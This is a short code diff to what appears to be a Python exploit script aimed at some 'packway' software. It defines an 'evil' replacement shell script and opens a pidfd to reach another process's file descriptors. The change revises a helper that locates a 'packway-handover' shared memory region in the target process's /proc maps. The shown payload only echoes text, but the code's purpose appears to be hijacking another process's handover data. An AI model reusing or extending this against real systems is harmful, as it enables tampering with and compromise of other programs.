@@ -466,10 +466,9 @@ libc = ctypes.CDLL(None, use_errno=True)
 evil = b"#!/bin/sh\necho evil\n"
 writes = packets = gave = 0
 def room_of(pid):
-    for line in open("/proc/%d/maps" % pid):
-        if "packway-handover" in line:
-            first, last = (int(x, 16) for x in line.split()[0].split("-"))
-            return first, last - first
+    maps = [[int(x, 16) for x in line.split()[0].split("-")] for line in open("/proc/%d/maps" % pid) if "packway-handover" in line]
+    if len(maps) == 2 and maps[0][1] == maps[1][0]:
+        return maps[0][0], maps[1][1] - maps[0][0]
 def hands_of(pid):
     out, pidfd = [], os.pidfd_open(pid)
     for name in os.listdir("/proc/%d/fd" % pid):
